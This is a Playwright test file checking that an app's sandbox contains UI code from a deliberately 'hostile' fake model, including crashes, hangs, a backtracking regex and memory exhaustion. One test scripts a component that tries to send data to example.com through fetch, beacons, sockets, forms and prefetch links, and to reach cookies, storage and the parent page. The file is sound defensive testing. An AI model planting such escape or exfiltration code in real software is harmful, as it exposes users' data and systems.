@@ -1,0 +1,149 @@
+import { type Page, test as base, expect } from '@playwright/test';
+import { type App, startApp } from './app';
+import { type ModelServer, startModelServer } from './fakes/model-server';
+import { askForChange, describe, liveFrame, untilWritten } from './studio';
+
+const test = base.extend<object, { models: ModelServer; app: App }>({
+  models: [
+    // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of fixtures from the pattern.
+    async ({}, use) => {
+      const models = await startModelServer();
+      await use(models);
+      await models.close();
+    },
+    { scope: 'worker' },
+  ],
+  app: [
+    async ({ models }, use) => {
+      const app = await startApp({ OPENAI_COMPATIBLE_BASE_URL: `${models.url}/v1`, OPENAI_COMPATIBLE_MODEL: 'hostile' });
+      await use(app);
+      await app.close();
+    },
+    { scope: 'worker' },
+  ],
+  baseURL: async ({ app }, use) => use(app.url),
+});
+
+const program = (body: string) => `Here it is.\n\n\`\`\`tsx ui.tsx\n${body}\n\`\`\`\n`;
+
+const GOOD = program(`export default function Good() {
+  const [text, setText] = useState('');
+  return <Page title="Good one"><Input aria-label="Note" value={text} onChange={(event) => setText(event.target.value)} /></Page>;
+}`);
+
+/** Each program fails in its own way on being shown, or on a click on "Go". */
+const FAILURES = [
+  { what: 'a throw at render', body: `export default function Bad() { throw new Error('no render'); return <p>never</p>; }`, says: /no render/ },
+  { what: 'a throw in an effect', body: `export default function Bad() { useEffect(() => { throw new Error('no effect'); }, []); return <p>shown</p>; }`, says: /no effect/ },
+  { what: 'a throw in a handler', body: `export default function Bad() { return <Button onClick={() => { throw new Error('no click'); }}>Go</Button>; }`, says: /no click/, click: true },
+  { what: 'a rejected promise', body: `export default function Bad() { return <Button onClick={() => { Promise.reject(new Error('no promise')); }}>Go</Button>; }`, says: /no promise/, click: true },
+  { what: 'an endless loop at render', body: `export default function Bad() {\n  let n = 0;\n  while (true) { n += 1; }\n  return <p>{n}</p>;\n}`, says: /loop/i },
+  { what: 'an endless loop in a handler', body: `export default function Bad() {\n  return <Button onClick={() => { let n = 0; while (true) { n += 1; } }}>Go</Button>;\n}`, says: /loop/i, click: true },
+];
+
+for (const { what, body, says, click } of FAILURES) {
+  test(`${what}: the host stays alive, says what happened where, and offers to repair`, async ({ page, models }) => {
+    models.setScript({ text: program(body) });
+    await describe(page, 'something that fails');
+    if (click) {
+      await untilWritten(page);
+      await liveFrame(page).getByRole('button', { name: 'Go' }).click();
+    } else {
+      // A program that fails as soon as it's shown goes back to the model unasked, at most three times.
+      await expect.poll(() => models.requests.length, { timeout: 30_000 }).toBeGreaterThan(1);
+    }
+    const bar = page.getByRole('alert').filter({ hasText: says });
+    await expect(bar).toBeVisible({ timeout: 45_000 });
+    await expect(bar).toContainText('ui.tsx');
+    await expect(bar.getByRole('button', { name: 'Repair' })).toBeVisible();
+    await hostIsAlive(page);
+
+    models.setScript({ text: GOOD });
+    await bar.getByRole('button', { name: 'Repair' }).click();
+    await expect(liveFrame(page).getByRole('heading', { name: 'Good one' })).toBeVisible({ timeout: 30_000 });
+    await expect(bar).toHaveCount(0);
+  });
+}
+
+test('a change that throws keeps the last good interface on the screen, with what was typed', async ({ page, models }) => {
+  models.setScript({ text: GOOD });
+  await describe(page, 'a good one');
+  await untilWritten(page);
+  const note = liveFrame(page).getByLabel('Note');
+  await note.fill('kept');
+  models.setScript({ text: program(`export default function Good() {
+  const [text, setText] = useState('');
+  throw new Error('worse');
+  return <Page title="Worse"><Input aria-label="Note" value={text} onChange={(event) => setText(event.target.value)} /></Page>;
+}`) });
+  await askForChange(page, 'make it worse');
+  await expect(page.getByRole('alert').filter({ hasText: 'worse' })).toBeVisible({ timeout: 45_000 });
+  await expect(note).toHaveValue('kept');
+});
+
+test('what hangs where no guard can be is thrown away, and the last good interface comes back', async ({ page, models }) => {
+  models.setScript({ text: GOOD });
+  await describe(page, 'a good one');
+  await untilWritten(page);
+  await page.waitForTimeout(3_000); // It has run well for a while: that is what makes it worth coming back to.
+  models.setScript({ text: program(`export default function Hang() {
+  const slow = useMemo(() => /^(a+)+$/.test('a'.repeat(60) + 'b'), []);
+  return <Page title="Hangs"><p>{String(slow)}</p></Page>;
+}`) });
+  await askForChange(page, 'something slow');
+  await expect(page.getByRole('alert').filter({ hasText: /no longer answered/ })).toBeVisible({ timeout: 45_000 });
+  await hostIsAlive(page);
+  await expect(liveFrame(page).getByRole('heading', { name: 'Good one' })).toBeVisible();
+});
+
+test('an endless allocation does not take the host with it', async ({ page, models }) => {
+  models.setScript({ text: program(`export default function Hog() {
+  return <Button onClick={() => { const all: number[][] = []; for (;;) all.push(new Array(1_000_000).fill(all.length)); }}>Go</Button>;
+}`) });
+  await describe(page, 'a hog');
+  await untilWritten(page);
+  await liveFrame(page).getByRole('button', { name: 'Go' }).click({ noWaitAfter: true });
+  await expect(page.getByRole('alert')).toBeVisible({ timeout: 45_000 });
+  await hostIsAlive(page);
+});
+
+test('generated code has no network, no storage, no origin and no way out', async ({ page, models }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => request.url().includes('example.com') && asked.push(request.url()));
+  models.setScript({ text: program(`export default function Spy() {
+  const [found, setFound] = useState<string[]>([]);
+  useEffect(() => {
+    const tries: Record<string, () => unknown> = {
+      fetch: () => (globalThis as any).fetch('https://example.com/a'),
+      image: () => { const image = document.createElement('img'); image.src = 'https://example.com/b.png'; document.body.append(image); },
+      beacon: () => (navigator as any).sendBeacon('https://example.com/c', 'x'),
+      socket: () => new (globalThis as any).WebSocket('wss://example.com/d'),
+      storage: () => localStorage.setItem('a', 'b'),
+      cookie: () => { document.cookie = 'a=b'; if (document.cookie.includes('a=b')) throw 'kept'; },
+      parent: () => (parent as any).document.title,
+      top: () => { (top as any).location.href = 'https://example.com/e'; },
+      open: () => (globalThis as any).open('https://example.com/f'),
+      frame: () => document.body.append(document.createElement('iframe')),
+      link: () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://example.com/g' })),
+      form: () => { const form = document.createElement('form'); form.action = 'https://example.com/h'; document.body.append(form); form.submit(); },
+    };
+    for (const name in tries) { try { Promise.resolve(tries[name]!()).catch(() => {}); } catch {} }
+    setFound([globalThis.origin, String(document.querySelectorAll('iframe, link').length)]);
+  }, []);
+  return <Page title="Spy"><p data-testid="found">{found.join(' ')}</p></Page>;
+}`) });
+  const address = page.url();
+  await describe(page, 'a spy');
+  await expect(liveFrame(page).getByTestId('found')).toHaveText('null 0', { timeout: 30_000 });
+  await page.waitForTimeout(1_000);
+  expect(asked).toEqual([]);
+  expect(page.url()).not.toBe(address);
+  expect(page.url()).toContain('/p/');
+  expect(page.context().pages()).toHaveLength(1);
+});
+
+/** The app's own page answers within a moment, whatever the frame does. */
+async function hostIsAlive(page: Page): Promise<void> {
+  await page.getByLabel('Ask for a change').fill('still here', { timeout: 2_000 });
+  await page.getByLabel('Ask for a change').fill('');
+}
